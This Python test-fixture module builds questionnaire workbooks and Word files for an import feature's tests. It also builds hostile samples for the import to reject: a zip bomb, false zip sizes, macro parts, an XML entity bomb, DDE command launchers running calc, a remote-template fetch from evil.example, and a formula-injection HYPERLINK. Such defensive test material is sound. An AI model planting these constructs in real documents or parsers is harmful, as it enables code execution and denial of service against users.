"""Questionnaire files built for the tests: a plain workbook, CSV and Word document, and the
hostile ones an import must refuse (zip bombs, macros, formulas, entities, lies)."""

from __future__ import annotations

import io
import struct
import zipfile

import docx
import openpyxl
from openpyxl.styles import Font, PatternFill

HEADER = ["ID", "Section", "Question", "Answer", "Sources"]
QUESTIONS = [
    ["Q1", "Backups", "How are backups made?", None, None],
    ["Q2", "Access", "Who may deploy to production?", None, None],
    ["Q3", "Access", "How is access reviewed?", None, None],
]


def workbook(rows: list[list[object]] | None = None, *, notes_sheet: bool = True) -> bytes:
    """A styled questionnaire: bold filled header, wide question column, a second sheet."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Questions"
    sheet.append(HEADER)
    for row in QUESTIONS if rows is None else rows:
        sheet.append(row)
    for cell in sheet[1]:
        cell.font = Font(bold=True, color="FFFFFF")
        cell.fill = PatternFill("solid", fgColor="1F4E78")
    sheet.column_dimensions["C"].width = 60
    sheet.column_dimensions["D"].width = 70
    if notes_sheet:
        notes = book.create_sheet("Notes")
        notes["A1"] = "Return by Friday."
    return _saved(book)


def _saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


def document_with_table() -> bytes:
    document = docx.Document()
    document.add_heading("Security questionnaire", 1)
    table = document.add_table(rows=1, cols=3)
    table.style = "Table Grid"
    for cell, text in zip(table.rows[0].cells, ["No.", "Question", "Answer"], strict=True):
        cell.text = text
    for number, (_, _, question, _, _) in enumerate(QUESTIONS, start=1):
        cells = table.add_row().cells
        cells[0].text, cells[1].text = str(number), question
    return _saved_docx(document)


def document_with_numbered_questions() -> bytes:
    document = docx.Document()
    document.add_heading("Vendor questions", 1)
    document.add_paragraph("Please answer every question.")
    for number, (_, _, question, _, _) in enumerate(QUESTIONS, start=1):
        document.add_paragraph(f"{number}. {question}")
    document.add_paragraph("Thank you.")
    return _saved_docx(document)


def _saved_docx(document: object) -> bytes:
    out = io.BytesIO()
    document.save(out)  # type: ignore[attr-defined]
    return out.getvalue()


def with_parts(
    base: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None
) -> bytes:
    """The zip `base` with parts added or replaced."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item)))
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def zip_bomb_xlsx() -> bytes:
    """A part of zeros that packs 1000:1 (20 MB in about 20 KB)."""
    return with_parts(workbook(), {"xl/media/bomb.xml": b"\0" * (20 * 1024 * 1024)})


def lying_sizes_xlsx() -> bytes:
    """The zip's directory says the sheet unpacks to 100 bytes; it really holds far more."""
    rows: list[list[object]] = [
        [f"Q{i}", "S", f"Question number {i}, long enough to matter?", None, None]
        for i in range(500)
    ]
    data = bytearray(workbook(rows))
    position = 0
    while (at := data.find(b"PK\x01\x02", position)) >= 0:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + name_length]) == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", data, at + 24, 100)  # the declared unpacked size
        position = at + 4
    return bytes(data)


def macro_xlsx() -> bytes:
    return with_parts(workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def macro_content_type_xlsx() -> bytes:
    base = workbook()
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        types = source.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return with_parts(base, {}, {"[Content_Types].xml": types})


def macro_docx() -> bytes:
    return with_parts(document_with_table(), {"word/vbaProject.bin": b"macro"})


def entity_bomb_xlsx(padding: int = 0) -> bytes:
    """A DTD with entities in the sheet's prolog, after `padding` bytes of comment."""
    base = workbook()
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        sheet = source.read("xl/worksheets/sheet1.xml")
    bomb = (
        b'<?xml version="1.0"?><!--' + b"x" * padding + b'--><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    sheet = bomb + sheet.split(b"?>", 1)[-1]
    return with_parts(base, {}, {"xl/worksheets/sheet1.xml": sheet})


def encrypted_entry_xlsx() -> bytes:
    """A zip whose parts say they are password-protected (flag bit 0)."""
    data = bytearray(workbook())
    position = 0
    while (at := data.find(b"PK\x01\x02", position)) >= 0:
        flags = struct.unpack_from("<H", data, at + 8)[0]
        struct.pack_into("<H", data, at + 8, flags | 0x1)
        position = at + 4
    return bytes(data)


def ole_encrypted() -> bytes:
    """What Excel writes for a password-protected workbook: an OLE compound file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2048


def formula_xlsx() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book["Questions"]["D2"] = "=SUM(1,2)"
    return _saved(book)


def text_formula_xlsx() -> bytes:
    """A text cell (not a formula cell) holding what would run if copied out as CSV."""
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    cell = book["Questions"]["C3"]
    cell.value = '=HYPERLINK("http://evil.example","x")'
    cell.data_type = "s"
    return _saved(book)


def dde_name_xlsx() -> bytes:
    """A defined name that launches another program when the workbook recalculates."""
    from openpyxl.workbook.defined_name import DefinedName

    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book.defined_names["launch"] = DefinedName("launch", attr_text="cmd|' /C calc'!A0")
    return _saved(book)


def named_range_xlsx() -> bytes:
    """A harmless defined name: a range on a sheet whose name has brackets."""
    from openpyxl.workbook.defined_name import DefinedName

    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book["Notes"].title = "Notes (v2)"
    book.defined_names["answers"] = DefinedName("answers", attr_text="'Notes (v2)'!$A$1:$A$3")
    return _saved(book)


def remote_template_docx(target: bytes = b"http://evil.example/t.dotm") -> bytes:
    """A Word file that fetches its template from a server when opened (template injection)."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="' + target + b'" '
        b'TargetMode="External"/></Relationships>'
    )
    return with_parts(document_with_table(), {"word/_rels/settings.xml.rels": rels})


def dde_field_docx() -> bytes:
    base = document_with_table()
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        body = source.read("word/document.xml")
    field = b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
    body = body.replace(b"<w:sectPr", field + b"<w:sectPr", 1)
    return with_parts(base, {}, {"word/document.xml": body})


def ole_object_docx() -> bytes:
    return with_parts(
        document_with_table(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}
    )


def embedded_workbook_docx() -> bytes:
    """A chart's data, as Word embeds it: a plain workbook (no macros by its format)."""
    return with_parts(
        document_with_table(), {"word/embeddings/Microsoft_Excel_Sheet.xlsx": workbook()}
    )


def hyperlinked_xlsx() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book["Questions"]["C2"].hyperlink = "https://example.com/backups"
    return _saved(book)


def document_with_table_headers(names: list[str], filler: str = "") -> bytes:
    """A Word table with these header names, the questions in column B, and `filler` in C."""
    document = docx.Document()
    table = document.add_table(rows=1, cols=len(names))
    for cell, text in zip(table.rows[0].cells, names, strict=True):
        cell.text = text
    for number, (_, _, question, _, _) in enumerate(QUESTIONS, start=1):
        cells = table.add_row().cells
        cells[0].text, cells[1].text = str(number), question
        if len(cells) > 2:
            cells[2].text = filler
    return _saved_docx(document)


def docx_with_body(extra: bytes) -> bytes:
    """The table document with raw WordprocessingML added at the end of its body."""
    base = document_with_table()
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        body = source.read("word/document.xml")
    return with_parts(
        base, {}, {"word/document.xml": body.replace(b"<w:sectPr", extra + b"<w:sectPr", 1)}
    )


def many_paragraphs_docx(count: int) -> bytes:
    return docx_with_body(
        b"".join(b"<w:p><w:r><w:t>line %d</w:t></w:r></w:p>" % i for i in range(count))
    )


def many_table_rows_docx(tables: int, rows: int) -> bytes:
    def table(t: int) -> bytes:
        body = b"".join(
            b"<w:tr><w:tc><w:p><w:r><w:t>%d.%d</w:t></w:r></w:p></w:tc></w:tr>" % (t, r)
            for r in range(rows)
        )
        return b"<w:tbl><w:tblGrid><w:gridCol/></w:tblGrid>" + body + b"</w:tbl><w:p/>"

    return docx_with_body(b"".join(table(t) for t in range(tables)))


def many_sheets_xlsx(sheets: int, rows: int) -> bytes:
    book = openpyxl.Workbook()
    for index in range(sheets):
        sheet = book.active if index == 0 else book.create_sheet()
        sheet.title = f"Part {index + 1}"
        for number in range(rows):
            sheet.append([f"Q{number}", f"Question {number} of part {index + 1}?"])
    return _saved(book)


def picture_xlsx() -> bytes:
    """The workbook with a picture on its sheet (kept by the export)."""
    from openpyxl.drawing.image import Image
    from PIL import Image as Picture

    png = io.BytesIO()
    Picture.new("RGB", (40, 20), "red").save(png, "PNG")
    png.seek(0)
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book["Questions"].add_image(Image(png), "G2")
    return _saved(book)


def shape_xlsx() -> bytes:
    """The picture workbook with a text box drawn next to the picture (lost by the export)."""
    base = picture_xlsx()
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        name = next(n for n in source.namelist() if n.startswith("xl/drawings/drawing"))
        drawing = source.read(name)
    box = b'<sp macro="" textlink=""><nvSpPr><cNvPr id="9" name="Box"/></nvSpPr></sp>'
    shaped = drawing.replace(b"</wsDr>", b"<absoluteAnchor>" + box + b"</absoluteAnchor></wsDr>")
    return with_parts(base, {}, {name: shaped})
